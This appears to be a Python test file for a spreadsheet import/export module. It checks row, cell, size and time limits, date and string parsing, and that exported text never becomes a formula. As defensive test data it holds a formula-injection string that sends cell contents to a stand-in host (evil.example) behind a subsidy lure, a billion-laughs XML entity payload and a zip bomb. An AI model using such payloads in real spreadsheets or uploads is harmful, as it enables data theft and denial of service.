"""core.spreadsheets: the one reader counts what it reads and refuses a file beyond its limits at
once; the one writer stores text as text (issue #11, defects 1 and 8)."""

from __future__ import annotations

import datetime as dt
import io
import pathlib
import re
import time
import zipfile
from decimal import Decimal
from typing import Any

import openpyxl
import pytest

from shouzhan.core.spreadsheets import (
    Sheet,
    SpreadsheetError,
    SpreadsheetLimitError,
    read_rows,
    write_xlsx,
)
from tests.sheet_files import inline, package, sheet, sparse_xlsx


def _read(data: bytes, filename: str = "a.xlsx", **kwargs: Any) -> list[tuple[int, list[Any]]]:
    return list(read_rows(data, filename, **kwargs))


# ------------------------------------------------------------------------------------------ limits
def test_the_sparse_sheet_is_refused_at_once() -> None:
    data = sparse_xlsx(["统一社会信用代码", "企业名称"])
    assert len(data) < 2048
    started = time.monotonic()
    with pytest.raises(SpreadsheetLimitError) as exc:
        _read(data)
    assert time.monotonic() - started < 0.5
    assert str(exc.value) == (
        "表格行数过多：读到第 1,048,576 行，而表头以下最多 20,000 行（空行也计算在内）。"
        "请删除多余的行，或拆分成多个文件后导入"
    )


def test_blank_rows_count_and_are_handed_out(settings: Any) -> None:
    settings.IMPORT_MAX_ROWS = 3
    rows = f'<row r="1">{inline("A1", "h")}</row><row r="3">{inline("B3", "x")}</row><row r="4"/>'
    assert _read(package(sheet(rows, dimension="A1:XFD1048576"))) == [
        (1, ["h"]),
        (2, []),
        (3, [None, "x"]),
        (4, []),
    ]
    five = rows + f'<row r="5">{inline("A5", "y")}</row>'
    with pytest.raises(SpreadsheetLimitError, match="读到第 5 行，而表头以下最多 3 行"):
        _read(package(sheet(five)))
    # A CSV's blank lines count the same way; an importer may ask for a smaller limit of its own.
    with pytest.raises(SpreadsheetLimitError, match="读到第 5 行"):
        _read(b"h\n\n\n\nx\n", "a.csv")
    settings.IMPORT_MAX_ROWS = 100
    with pytest.raises(SpreadsheetLimitError, match="表头以下最多 2 行"):
        _read(b"h\n1\n2\n3\n", "a.csv", max_rows=2)


def test_repeating_one_row_number_still_counts_rows(settings: Any) -> None:
    settings.IMPORT_MAX_ROWS = 3
    rows = "".join(f'<row r="2">{inline("A2", str(i))}</row>' for i in range(5))
    with pytest.raises(SpreadsheetError, match="行号顺序错误"):
        _read(package(sheet(f'<row r="1">{inline("A1", "h")}</row>{rows}')))


def test_cells_count_blank_ones_inside_a_row(settings: Any) -> None:
    settings.IMPORT_MAX_CELLS = 40_000
    # Three rows each with a value in the last column: 16,384 cells read per row.
    rows = "".join(f'<row r="{n}">{inline(f"XFD{n}", "x")}</row>' for n in range(1, 4))
    started = time.monotonic()
    with pytest.raises(SpreadsheetLimitError) as exc:
        _read(package(sheet(rows)))
    assert time.monotonic() - started < 0.5
    assert str(exc.value).startswith("表格单元格过多：最多读取 40,000 个单元格")
    with pytest.raises(SpreadsheetLimitError, match="单元格过多"):
        _read(("," * 60_000 + "\n").encode(), "wide.csv")


def test_a_zip_bomb_is_refused_before_it_is_inflated(settings: Any) -> None:
    settings.IMPORT_MAX_UNZIPPED_BYTES = 1024 * 1024
    bomb = sheet("") + " " * (8 * 1024 * 1024)  # 8 MB of blanks, about 8 KB once compressed
    data = package(bomb)
    assert len(data) < 20_000
    started = time.monotonic()
    with pytest.raises(SpreadsheetLimitError) as exc:
        _read(data)
    assert time.monotonic() - started < 0.5
    assert str(exc.value).startswith("Excel 文件解压后过大（上限 1.0 MB）")
    # Many small parts add up: shared strings of 2 MB are too much as well.
    strings = f'<sst xmlns="{"http://schemas.openxmlformats.org/spreadsheetml/2006/main"}">' + (
        "<si><t>abcdefgh</t></si>" * 100_000 + "</sst>"
    )
    with pytest.raises(SpreadsheetLimitError, match="解压后过大"):
        _read(package(sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), shared_strings=strings))


def test_a_slow_file_is_stopped_by_the_clock(settings: Any) -> None:
    settings.IMPORT_MAX_SECONDS = 0
    with pytest.raises(SpreadsheetLimitError, match="读取表格超时（上限 0 秒）"):
        _read(b"h\n1\n", "a.csv")


def test_entity_declarations_are_refused() -> None:
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row></sheetData></worksheet>'
    )
    with pytest.raises(SpreadsheetError, match=r"无法读取该 Excel 文件.*DTD"):
        _read(package(laughs))


def test_the_upload_itself_is_bounded(settings: Any) -> None:
    settings.IMPORT_MAX_BYTES = 1024
    with pytest.raises(SpreadsheetLimitError, match=re.escape("文件过大（0.0 MB），上限为 0.0 MB")):
        _read(b"a\n" * 1000, "a.csv")
    with pytest.raises(SpreadsheetError, match="文件是空的"):
        _read(b"", "a.csv")


# ------------------------------------------------------------------------------------------ values
def test_values_read_as_openpyxl_reads_them() -> None:
    workbook = openpyxl.Workbook()
    ws = workbook.active
    ws.append(["名称", 1, 2.5, dt.date(2024, 3, 1), True, None, "  空格  "])
    ws.append([])
    ws.append(["x", None, dt.datetime(2024, 1, 2, 3, 4)])
    ws["A5"] = 45352
    ws["A5"].number_format = "yyyy年m月d日"
    ws["B5"] = 0.1
    ws["C5"] = "=B5*2"
    out = io.BytesIO()
    workbook.save(out)
    data = out.getvalue()
    theirs = openpyxl.load_workbook(io.BytesIO(data), read_only=True, data_only=True).worksheets[0]
    expected = []
    for number, row in enumerate(theirs.iter_rows(values_only=True), start=1):
        values = list(row)
        while values and values[-1] is None:
            values.pop()
        expected.append((number, values))
    assert _read(data) == expected
    assert expected[4] == (5, [dt.datetime(2024, 3, 1), 0.1])  # a formula never calculated is empty


def test_shared_strings_styles_and_cell_kinds() -> None:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    strings = (
        f'<sst xmlns="{main}"><si><t>甲</t></si>'
        "<si><r><t>富</t></r><r><rPr><b/></rPr><t>文本</t></r><rPh><t>フリガナ</t></rPh></si></sst>"
    )
    styles = (
        f'<styleSheet xmlns="{main}"><numFmts><numFmt numFmtId="170" formatCode="yyyy/m/d"/></numFmts>'
        '<cellStyleXfs><xf numFmtId="14"/></cellStyleXfs>'
        '<cellXfs><xf numFmtId="0"/><xf numFmtId="170"/><xf numFmtId="31"/><xf numFmtId="4"/></cellXfs></styleSheet>'
    )
    rows = (
        '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c><c t="b"><v>1</v></c>'
        '<c r="E1" t="e"><v>#N/A</v></c><c r="F1" t="str"><f>A1&amp;""</f><v>甲</v></c></row>'
        '<row r="2"><c r="A2" s="1"><v>45352</v></c><c r="B2" s="2"><v>45352.5</v></c>'
        '<c r="C2" s="3"><v>1234.5</v></c><c r="D2" s="0"><v>7</v></c><c r="E2" t="d"><v>2024-03-01</v></c></row>'
    )
    assert _read(package(sheet(rows), shared_strings=strings, styles=styles)) == [
        (1, ["甲", "富文本", True, None, "#N/A", "甲"]),
        (
            2,
            [
                dt.datetime(2024, 3, 1),
                dt.datetime(2024, 3, 1, 12, 0),  # 31: a Chinese Excel's built-in "yyyy年m月d日"
                1234.5,
                7,
                dt.datetime(2024, 3, 1),
            ],
        ),
    ]
    # A workbook counting days from 1904 (old Mac Excel): 1 March 2024 is day 43,890, not 45,352.
    dated = package(
        sheet('<row r="1"><c r="A1" s="1"><v>43890</v></c></row>'),
        styles=styles,
        workbook_pr='<workbookPr date1904="1"/>',
    )
    assert _read(dated) == [(1, [dt.datetime(2024, 3, 1)])]
    with pytest.raises(SpreadsheetError, match="共享字符串编号 9 不存在"):
        _read(package(sheet('<row r="1"><c r="A1" t="s"><v>9</v></c></row>'), shared_strings=strings))


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"PK\x03\x04broken", "无法读取该 Excel 文件：文件已损坏或不是 .xlsx 格式"),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1rest",
            "不支持旧版 Excel (.xls) 文件，请在 Excel 中另存为 .xlsx 后再导入",
        ),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "文件内容不是 .xlsx 或 .csv 表格，请上传 Excel (.xlsx) 或 CSV 文件"),
    ],
)
def test_unreadable_files(data: bytes, message: str) -> None:
    with pytest.raises(SpreadsheetError) as exc:
        _read(data)
    assert str(exc.value) == message


def test_a_package_without_a_sheet() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("hello.txt", "not a workbook")
    with pytest.raises(SpreadsheetError, match="无法读取该 Excel 文件"):
        _read(out.getvalue())


# ------------------------------------------------------------------------------------------ writing
INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"点此领取补贴")', "+1+1", "-2+3", "@SUM(A1:A2)", "=1+1"]


def test_text_is_written_as_text_never_as_a_formula() -> None:
    rows: list[list[Any]] = [
        [*INJECTIONS],
        [42, 3.5, Decimal("12345678901.23"), Decimal("0.10"), dt.date(2024, 3, 1), True, None, "普通"],
        [10**17, "line\x00\x07break"],
    ]
    data = write_xlsx(Sheet("导出", rows, header=["一", "二"], heading="标题"))
    ws = openpyxl.load_workbook(io.BytesIO(data))["导出"]
    assert [(c.value, c.data_type, c.font.b) for c in ws[1] if c.value is not None] == [("标题", "s", True)]
    assert [(c.value, c.data_type) for c in ws[3][: len(INJECTIONS)]] == [(t, "s") for t in INJECTIONS]
    values = [(c.value, c.data_type) for c in ws[4]]
    assert values[:6] == [
        (42, "n"),
        (3.5, "n"),
        (12345678901.23, "n"),
        (0.1, "n"),
        (dt.datetime(2024, 3, 1), "d"),
        (True, "b"),
    ]
    assert values[7] == ("普通", "s")
    # Beyond Excel's 15 digits a number is kept exact as its text; characters XML cannot hold are dropped.
    assert [(c.value, c.data_type) for c in ws[5][:2]] == [("100000000000000000", "s"), ("linebreak", "s")]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    assert "<v>12345678901.23</v>" in xml and "<v>0.10</v>" in xml  # the Decimal's own digits


def test_what_the_writer_writes_the_reader_reads_back() -> None:
    rows = [["=A1", 1, Decimal("2.50"), dt.date(2024, 3, 1), "甲"]]
    data = write_xlsx(Sheet("表", rows, header=["公式", "数", "金额", "日期", "名"]))
    assert _read(data) == [
        (1, ["公式", "数", "金额", "日期", "名"]),
        (2, ["=A1", 1, 2.5, dt.datetime(2024, 3, 1), "甲"]),
    ]


def test_every_workbook_is_written_by_the_one_writer() -> None:
    """No module builds an openpyxl Workbook of its own (it would write '=…' text as a formula)."""
    src = pathlib.Path(__file__).resolve().parents[2] / "src" / "shouzhan"
    writers = sorted(
        str(path.relative_to(src))
        for path in src.rglob("*.py")
        if re.search(r"\bWorkbook\(|openpyxl\.Workbook\b", path.read_text(encoding="utf-8"))
    )
    assert writers == ["core/spreadsheets.py"]
